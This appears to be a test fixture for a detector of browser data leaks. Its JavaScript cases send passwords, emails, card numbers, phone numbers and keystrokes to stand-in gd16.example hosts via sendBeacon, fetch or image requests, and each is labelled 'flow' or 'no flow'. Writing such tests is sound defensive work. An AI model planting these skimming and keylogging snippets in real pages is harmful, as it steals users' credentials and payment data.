// Tests whose outcome stands in the code: tables that are only read, lists with nothing in them, lots, contradictions.

//# flag-of-a-nested-table
// no flow
// why: nothing ever turns the option on
const SETTINGS = { debug: false, modules: { replay: false, errors: true } };
document.querySelector('input[type=password]').addEventListener('input', (e) => {
  if (!SETTINGS.modules.replay) return;
  navigator.sendBeacon('https://fnt.gd16.example/r', e.target.value);
});

//# flag-of-a-nested-table-turned-on
// flow: password > fno.gd16.example via beacon
const OPTIONS = { debug: false, modules: { replay: false, errors: true } };
const enable = (name) => { OPTIONS.modules[name] = true; };
document.querySelector('#go').onclick = () => enable('replay');
document.querySelector('input[type=password]').addEventListener('input', (e) => {
  if (!OPTIONS.modules.replay) return;
  navigator.sendBeacon('https://fno.gd16.example/r', e.target.value);
});

//# defaults-under-what-is-given
// no flow
// why: the option that the only caller gives is another one
var defaults = { sendEmail: false, lang: 'en' };
function boot(options) {
  var conf = { ...defaults, ...options };
  if (conf.sendEmail) fetch('https://duw.gd16.example/m', { method: 'POST', body: document.querySelector('#email').value });
}
boot({ lang: 'fr' });

//# defaults-under-what-is-given-and-on
// flow: email > duo.gd16.example via fetch
var defaults2 = { sendEmail: false, lang: 'en' };
function boot2(options) {
  var conf = { ...defaults2, ...options };
  if (conf.sendEmail) fetch('https://duo.gd16.example/m', { method: 'POST', body: document.querySelector('#email').value });
}
boot2({ lang: 'fr', sendEmail: true });

//# default-of-a-pattern
// no flow
// why: the caller leaves the option out, and its default is off
function watch(field, { live = false, url } = {}) {
  field.addEventListener('input', () => {
    if (live) new Image().src = url + '?q=' + encodeURIComponent(field.value);
  });
}
watch(document.querySelector('input[type=search]'), { url: 'https://dop.gd16.example/p.gif' });

//# default-of-a-pattern-given
// flow: search > dpg.gd16.example via image
function watch2(field, { live = false, url } = {}) {
  field.addEventListener('input', () => {
    if (live) new Image().src = url + '?q=' + encodeURIComponent(field.value);
  });
}
watch2(document.querySelector('input[type=search]'), { url: 'https://dpg.gd16.example/p.gif', live: true });

//# table-handed-to-others
// flow: phone > tho.gd16.example via fetch
// why: what fills the table in may turn the option on
const shared = { upload: false };
window.configure(shared);
document.querySelector('input[type=tel]').onchange = (e) => {
  if (shared.upload) fetch('https://tho.gd16.example/u', { method: 'POST', body: e.target.value });
};

//# level-of-the-only-call
// flow: message > lvl.gd16.example via beacon
const SEVERITY = Object.freeze({ debug: 10, warn: 30, fatal: 60 });
const threshold = SEVERITY.warn;
function emit(kind, text) {
  if (SEVERITY[kind] < threshold) return;
  navigator.sendBeacon('https://lvl.gd16.example/l', text);
}
emit('fatal', document.querySelector('textarea[name=message]').value);

//# level-under-the-threshold
// no flow
const SEVERITY2 = Object.freeze({ debug: 10, warn: 30, fatal: 60 });
const threshold2 = SEVERITY2.warn;
function emit2(kind, text) {
  if (SEVERITY2[kind] < threshold2) return;
  navigator.sendBeacon('https://lut.gd16.example/l', text);
}
emit2('debug', document.querySelector('textarea[name=message]').value);

//# nobody-in-the-list
// no flow
// why: there is no partner to send to
const partners = [];
document.querySelector('form').addEventListener('submit', () => {
  const mail = document.querySelector('input[type=email]').value;
  partners.forEach((partner) => fetch('https://' + partner + '.nil.gd16.example/x', { method: 'POST', body: mail }));
});

//# partners-come-later
// flow: email > ? via fetch
const partners2 = [];
fetch('/partners.json').then((r) => r.json()).then((list) => { for (const p of list) partners2.push(p); });
document.querySelector('form').addEventListener('submit', () => {
  const mail = document.querySelector('input[type=email]').value;
  partners2.forEach((partner) => fetch(partner, { method: 'POST', body: mail }));
});

//# one-of-the-listed-builds
// no flow
// why: the build is none of those that report
const BUILD_NAME = 'stable';
const REPORTING = ['nightly', 'beta'];
document.querySelector('input[type=email]').onchange = ({ target }) => {
  if (REPORTING.includes(BUILD_NAME)) fetch('https://olb.gd16.example/?m=' + encodeURIComponent(target.value));
};

//# one-of-the-listed-builds-it-is
// flow: email > obi.gd16.example via fetch
const BUILD_NAME2 = 'beta';
const REPORTING2 = new Set(['nightly', 'beta']);
document.querySelector('input[type=email]').onchange = ({ target }) => {
  if (REPORTING2.has(BUILD_NAME2)) fetch('https://obi.gd16.example/?m=' + encodeURIComponent(target.value));
};

//# never-drawn
// no flow
// why: a number below one is never two
var share = { of: 0 };
document.addEventListener('keydown', function (e) {
  if (Math.random() * 100 >= share.of) return;
  navigator.sendBeacon('https://nvd.gd16.example/k', e.key);
});

//# drawn-at-times
// flow: keystrokes > dat.gd16.example via beacon
// guard: not random other 25
var share2 = { of: 25 };
document.addEventListener('keydown', function (e) {
  if (Math.random() * 100 >= share2.of) return;
  navigator.sendBeacon('https://dat.gd16.example/k', e.key);
});

//# two-languages-at-once
// no flow
const lang = navigator.language;
const isTurkish = () => lang.startsWith('tr');
document.querySelector('#save').addEventListener('click', () => {
  if (lang !== 'de-AT') return;
  if (isTurkish()) navigator.sendBeacon('https://tla.gd16.example/n', document.querySelector('input[autocomplete=name]').value);
});

//# language-and-region
// flow: name > lar.gd16.example via beacon
// guard: language starts-with de
// guard: language equals de-AT
const lang2 = navigator.language;
const isGerman = () => lang2.startsWith('de');
document.querySelector('#save').addEventListener('click', () => {
  if (lang2 !== 'de-AT') return;
  if (isGerman()) navigator.sendBeacon('https://lar.gd16.example/n', document.querySelector('input[autocomplete=name]').value);
});

//# zone-that-was-left-out
// no flow
// why: whoever is in that zone has been sent away before
function zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }
document.querySelector('input[type=tel]').onchange = function () {
  if (zone() === 'Asia/Tokyo') return;
  const tel = this.value;
  if (zone() === 'Asia/Tokyo') fetch('https://zlo.gd16.example/t', { method: 'POST', body: tel });
};

//# both-ways-of-a-parameter
// no flow
// why: what is quiet cannot be loud in the same call
function report(text, quiet) {
  if (quiet) {
    document.title = text.length + ' letters';
    if (!quiet) fetch('https://bwp.gd16.example/r', { method: 'POST', body: text });
  }
}
document.querySelector('#send').onclick = () => report(document.querySelector('textarea').value, document.hidden);

//# kind-that-it-is-not
// no flow
// why: an event of one kind is none of another
const handle = (event, value) => {
  if (event.kind === 'view') {
    if (event.kind === 'order') navigator.sendBeacon('https://kin.gd16.example/o', value);
  }
};
document.querySelector('input[autocomplete=cc-number]').onchange = (e) => handle(window.lastEvent, e.target.value);

//# changed-in-between
// flow: card > cib.gd16.example via beacon
// why: the flag is turned round between the two tests
let first = true;
document.querySelector('input[autocomplete=cc-number]').onchange = (e) => {
  if (first) {
    first = false;
    if (!first) navigator.sendBeacon('https://cib.gd16.example/o', e.target.value);
  }
};

//# hook-that-gives-nothing
// no flow
// why: the hook of the only caller answers null, and null is not sent
function deliver(event, { before } = {}) {
  const made = before ? before(event) : event;
  if (made == null) return;
  navigator.sendBeacon('https://htg.gd16.example/e', JSON.stringify(made));
}
deliver({ text: document.querySelector('textarea').value }, { before: () => null });

//# no-hook-at-all
// flow: message > nha.gd16.example via beacon
function deliver2(event, { before } = {}) {
  const made = before ? before(event) : event;
  if (made == null) return;
  navigator.sendBeacon('https://nha.gd16.example/e', JSON.stringify(made));
}
deliver2({ text: document.querySelector('textarea').value });

//# hook-that-lets-it-pass
// flow: message > hlp.gd16.example via beacon
function deliver3(event, options) {
  const made = options.before ? options.before(event) : event;
  if (made === null) return;
  navigator.sendBeacon('https://hlp.gd16.example/e', JSON.stringify(made));
}
deliver3({ text: document.querySelector('textarea').value }, { before: (event) => event });
